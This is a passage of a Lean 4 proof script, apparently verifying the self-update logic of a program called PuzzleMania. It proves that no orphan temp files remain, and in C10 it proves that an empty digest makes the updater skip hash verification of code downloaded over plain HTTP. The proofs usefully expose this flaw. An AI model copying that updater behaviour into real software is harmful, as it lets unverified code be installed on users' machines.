  next => exact ⟨htmp0, hnew0⟩
  next info heqf =>
    split
    next => exact ⟨htmp0, hnew0⟩
    next rv heqv =>
      split
      next => exact ⟨htmp0, hnew0⟩
      next hrv =>
        split
        next hcmp =>
          split
          next => exact ⟨htmp0, hnew0⟩
          next hproceed =>
            split
            next heqdl => exact ⟨htmp0, hnew0⟩
            next part heqdl =>
              by_cases hu : info.url = none
              · rw [if_pos hu] at heqdl
                exact absurd heqdl (by intro hx; exact DlOutcome.noConfusion hx)
              · rw [if_neg hu] at heqdl
                exact absurd heqdl (hmid part)
            next b heqdl =>
              obtain ⟨htv, hnv⟩ := hvn info rv heqf heqv
              unfold verifyStage
              split
              next d heqs =>
                split
                next hde =>
                  exact applyChoice_no_orphans cfg env fs0 rv [] b orig
                    hnew0 horig hta htb htn htv hnv hsx hcr hdr hmv hrep
                next hde =>
                  split
                  next hh =>
                    exact applyChoice_no_orphans cfg env fs0 rv
                      [cfg.tmpPath] b orig hnew0 horig hta htb htn htv hnv
                      hsx hcr hdr hmv hrep
                  next hh =>
                    constructor
                    · exact fsRead_fsRemove_self _ _
                    · rw [fsRead_fsRemove_ne _ (Ne.symm htn),
                        fsRead_fsWrite_ne _ _ (Ne.symm htn)]
                      exact hnew0
              next heqs =>
                exact applyChoice_no_orphans cfg env fs0 rv [] b orig
                  hnew0 horig hta htb htn htv hnv hsx hcr hdr hmv hrep
        next hcmp => exact ⟨htmp0, hnew0⟩

theorem C2_amended_witness :
    fsRead (on_check_for_update cfgA envA fsA).fs
      "/tmp/puzzle_update_a.tmp" = none ∧
    fsRead (on_check_for_update cfgA envA fsA).fs
      ("/app/PuzzleMania_v1.0.2.py" ++ ".new") = none :=
  C2_amended_no_orphans cfgA envA fsA [1, 2, 3]
    (by decide) (by decide) (by decide) (by decide) (by decide) (by decide)
    (by
      intro info rv h1 h2
      have h1' : some manifestA = some info := h1
      injection h1' with h1'
      rw [← h1'] at h2
      have h2' : some "1.0.3" = some rv := h2
      injection h2' with h2'
      rw [← h2']
      exact ⟨by decide, by decide⟩)
    (by
      intro part h
      exact DlOutcome.noConfusion h)
    rfl rfl rfl rfl (Or.inl rfl)

theorem C10_witness :
    (on_check_for_update cfgA envEmptyDigestCancel fsA).hashed = [] ∧
    (on_check_for_update cfgA envEmptyDigestCancel fsA).prompts
      = [Prompt.download, Prompt.apply] ∧
    fsRead (on_check_for_update cfgA envEmptyDigestCancel fsA).fs
      "/tmp/puzzle_update_a.tmp" = some [9, 9, 9] :=
  C10_empty_digest_skips_verification cfgA envEmptyDigestCancel fsA _
    "1.0.3" "http://srv/PuzzleMania.py" [9, 9, 9]
    rfl rfl (by decide) (by decide) rfl rfl rfl rfl rfl rfl

end PuzzleMania
